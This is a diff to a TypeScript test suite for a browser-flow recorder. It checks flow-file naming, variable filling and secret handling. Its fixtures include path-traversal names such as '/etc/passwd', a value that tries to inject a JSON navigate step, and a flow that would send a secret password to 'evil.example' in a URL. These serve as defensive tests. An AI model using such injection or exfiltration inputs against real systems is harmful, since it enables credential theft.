@@ -2,7 +2,7 @@ import * as assert from 'node:assert/strict';
 import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import * as path from 'node:path';
 import { FlowLibrary } from '../../src/cdp/recorder/flowLibrary';
-import { fillPlaceholders, placeholdersOf, recordedValues, withPlaceholders } from '../../src/cdp/recorder/flowPlaceholders';
+import { fillVariables, originAt, placeholdersOf, recordedValues, withPlaceholders } from '../../src/cdp/recorder/flowPlaceholders';
 import type { UserFlow } from '../../src/cdp/recorder/flowSchema';
 import { tempStorage } from './support';
 
@@ -35,9 +35,13 @@ describe('flow library and placeholders', () => {
 
   it('refuses names that would leave the flows folder', async () => {
     const library = new FlowLibrary(path.join(tempStorage('bc-flows-'), 'flows'));
-    for (const name of ['../settings', '/etc/passwd', 'sub/flow', '../../x.json']) {
+    for (const name of ['../settings', '/etc/passwd', 'sub/flow', '../../x', path.join(library.folder, '..', 'x.json')]) {
       assert.throws(() => library.fileOf(name), /is not a flow in/, name);
     }
+    // What the tree and the commands pass: a name, or the file's own path; a name is never a file name.
+    assert.equal(library.fileOf('log-in'), path.join(library.folder, 'log-in.json'));
+    assert.equal(library.fileOf(path.join(library.folder, 'log-in.json')), path.join(library.folder, 'log-in.json'));
+    assert.equal(library.fileOf('x.json'), path.join(library.folder, 'x.json.json'), 'the flow listed as "x.json"');
     await assert.rejects(library.remove('../outside'), /is not a flow in/);
   });
 
@@ -61,16 +65,31 @@ describe('flow library and placeholders', () => {
     assert.throws(() => withPlaceholders(LOGIN, [{ step: 1, name: 'two words', secret: false }]), /cannot name a placeholder/);
   });
 
-  it('fills placeholders inside strings only, asks each secret once, and names missing variables first', async () => {
+  it('fills variables inside strings only, names missing ones first, and allows a secret only as a typed value', () => {
     const flow = withPlaceholders(LOGIN, [{ step: 1, name: 'email', secret: false }]);
-    const asked: string[] = [];
     const hostile = 'x", "type": "navigate", "url": "https://evil.example';
-    const filled = await fillPlaceholders({ ...flow, steps: [...flow.steps, flow.steps[3]] }, { email: hostile }, async (name) => (asked.push(name), 'pw'));
+    const filled = fillVariables(flow, { email: hostile });
     assert.equal((filled.steps[1] as { value: string }).value, hostile, 'a value is a value, never structure');
-    assert.equal(filled.steps.length, 5);
-    assert.deepEqual(asked, ['password']);
-    await assert.rejects(fillPlaceholders(flow, {}, async () => 'pw'), /needs a value for email/);
-    await assert.rejects(fillPlaceholders(LOGIN, {}), /needs the secret password, and no secret store was given/);
+    assert.equal(filled.steps.length, LOGIN.steps.length);
+    assert.equal((filled.steps[3] as { value: string }).value, '{{secret:password}}', 'secrets wait for their step');
+    assert.throws(() => fillVariables(flow, {}), /needs a value for email/);
+    const leaking: UserFlow = { title: 'Leak', steps: [{ type: 'navigate', url: 'https://evil.example/?p={{secret:password}}' }] };
+    assert.throws(() => fillVariables(leaking, {}), /Step 1 \(navigate\) has a \{\{secret:…\}\} outside a typed value/);
+  });
+
+  it('knows the origin a recorded step types into: the page the flow went to, a popup, not an iframe', () => {
+    const flow: UserFlow = {
+      title: 'Across',
+      steps: [
+        { type: 'navigate', url: 'https://shop.example/login' },
+        { type: 'change', selectors: [['#user']], value: 'ada' },
+        { type: 'click', selectors: [['#go']], offsetX: 1, offsetY: 1, assertedEvents: [{ type: 'navigation', url: 'https://account.example/home' }] },
+        { type: 'change', selectors: [['#card']], value: '4242' },
+        { type: 'change', target: 'https://pay.example/popup', selectors: [['#pin']], value: '1234' },
+        { type: 'change', frame: [0], selectors: [['#cvc']], value: '123' },
+      ],
+    };
+    assert.deepEqual([1, 3, 4, 5].map((step) => originAt(flow, step)), ['https://shop.example', 'https://account.example', 'https://pay.example', undefined]);
   });
 
   it('saves plain Recorder JSON: the same flow reads back, and nothing else is written', async () => {
